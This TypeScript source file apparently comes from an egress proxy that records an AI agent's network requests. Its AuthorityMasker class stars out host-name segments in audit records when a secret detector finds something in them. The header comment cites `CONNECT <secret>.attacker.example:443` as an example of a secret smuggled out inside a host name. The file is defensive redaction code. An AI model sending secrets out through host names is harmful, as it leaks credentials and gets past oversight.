/**
 * Host names are agent-chosen text too. `CONNECT <secret>.attacker.example:443` is refused
 * before any DNS lookup, but its `connect` record held the target as sent, and every record of
 * a request to a host allowed by a wildcard (`*.example.com`) holds the name the agent chose.
 * A CONNECT target that does not parse is recorded as sent too, and may be anything.
 *
 * AuthorityMasker stars every segment of a host or CONNECT target (split at `.`, `:`, `[`, `]`,
 * `@`) in which a detector finds anything: `*.attacker.example:443`. Hosts the operator wrote
 * in the config are recorded as written without a scan, and results are cached: the names an
 * agent uses repeat.
 */
import { LRUCache } from 'lru-cache';
import type { AuditRecordInput } from './events.js';

/** Spans `[start, end)` of `text` that hold something sensitive. */
export type SpansOf = (text: string) => readonly (readonly [number, number])[];

const SEPARATORS = new Set(['.', ':', '[', ']', '@']);
/** `scheme://authority` at the start of an absolute URL. */
const ABSOLUTE = /^([a-z][a-z0-9+.-]*:\/\/)([^/?#]*)/i;
const CACHE_MAX = 2048;
/** A port after a name, an IPv4 address or a bracketed IPv6 one (never a bare IPv6 address's last group). */
const WITH_PORT = /^(?:\[[^\]]*\]|[^:]*)(:\d{1,5})$/;

interface Masked {
  readonly text: string;
  /** The starred segments, lower-cased (a host is recorded lower-cased beside the raw target). */
  readonly starred: readonly string[];
}

/** The authority of an absolute URL as written (`http://HOST:80/x` → `HOST:80`), or undefined. */
export function absoluteAuthority(url: string): string | undefined {
  return ABSOLUTE.exec(url)?.[2];
}

/** Star every segment of `text` (between separators) for which `star(segment, start, end)` holds. */
function starWhere(text: string, star: (segment: string, start: number, end: number) => boolean): Masked {
  let out = '';
  const starred: string[] = [];
  let start = 0;
  for (let i = 0; i <= text.length; i++) {
    if (i < text.length && !SEPARATORS.has(text[i]!)) continue;
    const seg = text.slice(start, i);
    if (seg !== '' && star(seg, start, i)) {
      out += '*';
      starred.push(seg.toLowerCase());
    } else {
      out += seg;
    }
    if (i < text.length) out += text[i];
    start = i + 1;
  }
  return { text: out, starred };
}

/** Star every segment of `text` that a span overlaps. */
export function starSegments(text: string, spans: readonly (readonly [number, number])[]): Masked {
  if (spans.length === 0) return { text, starred: [] };
  return starWhere(text, (_, start, end) => spans.some(([a, b]) => a < end && start < b));
}

export class AuthorityMasker {
  readonly #cache = new LRUCache<string, Masked>({ max: CACHE_MAX });

  /** `known`: host names the config names (lower case), recorded as written. */
  constructor(private readonly spansOf: SpansOf, private readonly known: ReadonlySet<string>) {}

  /**
   * A host, `host:port` or CONNECT target with its sensitive segments starred. A port is kept as
   * it is, and the rest cached: `host` and `host:443` are one scan.
   */
  mask(authority: string): Masked {
    if (authority === '') return { text: authority, starred: [] };
    const port = WITH_PORT.exec(authority)?.[1] ?? '';
    const host = port === '' ? authority : authority.slice(0, -port.length);
    let masked = this.#cache.get(host);
    if (masked === undefined) {
      masked = this.known.has(host.toLowerCase()) ? { text: host, starred: [] } : starSegments(host, this.spansOf(host));
      this.#cache.set(host, masked);
    }
    return port === '' ? masked : { text: masked.text + port, starred: masked.starred };
  }

  /**
   * The record with `host` and the authority of `url` masked (a CONNECT record's `url` is its
   * target, authority-form). A segment starred in the target as written is starred in the
   * lower-cased `host` too: a case-sensitive pattern (`AKIA…`) only matches the raw text.
   */
  maskRecord(r: AuditRecordInput): AuditRecordInput {
    if (r.host === undefined && r.url === undefined) return r;
    let url = r.url;
    let starred: readonly string[] = [];
    if (url !== undefined) {
      if (r.method === 'CONNECT') {
        ({ text: url, starred } = this.mask(url));
      } else {
        const m = ABSOLUTE.exec(url);
        if (m !== null) {
          const a = this.mask(m[2]!);
          if (a.text !== m[2]) url = m[1]! + a.text + url.slice(m[0].length);
          starred = a.starred;
        }
      }
    }
    let host = r.host;
    if (host !== undefined) {
      const h = this.mask(host);
      host = starred.length === 0 ? h.text : starWhere(h.text, (seg) => starred.includes(seg.toLowerCase())).text;
    }
    if (host === r.host && url === r.url) return r;
    return { ...r, ...(host !== undefined ? { host } : {}), ...(url !== undefined ? { url } : {}) };
  }
}
